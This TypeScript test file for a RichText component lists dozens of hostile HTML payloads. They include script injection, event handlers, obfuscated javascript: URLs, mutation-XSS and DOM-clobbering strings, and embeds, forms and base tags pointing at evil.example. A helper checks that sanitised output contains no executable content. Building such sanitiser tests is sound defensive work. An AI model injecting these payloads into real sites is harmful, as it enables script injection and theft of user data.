/**
 * Hostile HTML for the RichText tests: run by the happy-dom unit test and, in real Chromium, by the play
 * function of the RichText "Hostile payloads" story.
 */
export const HOSTILE_PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" ONERROR="alert(1)">',
  '<svg onload=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<body onload=alert(1)>',
  '<div onclick="alert(1)">tap</div>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href=" \x01javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<form action="https://evil.example"><input name="pan"><button>Go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<p style="background-image:url(javascript:alert(1))">styled</p>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>"></path></textarea></mtext></svg></mglyph></mi></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<img name=getElementById>',
  '<form id=x><input name=attributes></form>',
  '<img id=location src=x>',
  '<a id=cookie name=cookie href=#>clobber</a>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<template><script>alert(1)</script></template>',
  '<a href="https://example.com" target="_self">ok</a>',
  '<xss onafterscriptexecute=alert(1)><script>1</script>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
]

const EXECUTABLE_TAGS = [
  'script',
  'style',
  'iframe',
  'frame',
  'object',
  'embed',
  'form',
  'input',
  'button',
  'textarea',
  'select',
  'meta',
  'base',
  'link',
  'svg',
  'math',
  'template',
  'noscript',
]
const CLOBBER_NAMES = new Set(['getelementbyid', 'attributes', 'location', 'cookie', 'x', 'body', 'forms'])

/** Everything executable, navigable or clobbering that is still in `root`; an empty list means safe. */
export function findExecutableContent(root: ParentNode): string[] {
  const problems: string[] = []
  for (const tag of EXECUTABLE_TAGS) {
    if (root.querySelector(tag)) problems.push(`<${tag}> element`)
  }
  for (const element of Array.from(root.querySelectorAll('*'))) {
    for (const attribute of Array.from(element.attributes)) {
      const name = attribute.name.toLowerCase()
      // Browsers ignore whitespace and control characters inside a scheme ("java\tscript:").
      const value = Array.from(attribute.value)
        .filter((char) => char.charCodeAt(0) > 32)
        .join('')
        .toLowerCase()
      if (name.startsWith('on')) problems.push(`${name} handler`)
      if (name === 'style' || name === 'srcdoc' || name === 'srcset') problems.push(`${name} attribute`)
      if (/^(javascript|vbscript|data|blob):/.test(value)) problems.push(`${name}=${value.slice(0, 20)}`)
      if ((name === 'id' || name === 'name') && CLOBBER_NAMES.has(value))
        problems.push(`clobbering ${name}=${value}`)
    }
    if (element.tagName === 'A' && element.getAttribute('href') !== null) {
      if (element.getAttribute('target') !== '_blank') problems.push('link without target=_blank')
      if (element.getAttribute('rel') !== 'noopener noreferrer') problems.push('link without rel=noopener')
    }
  }
  return problems
}
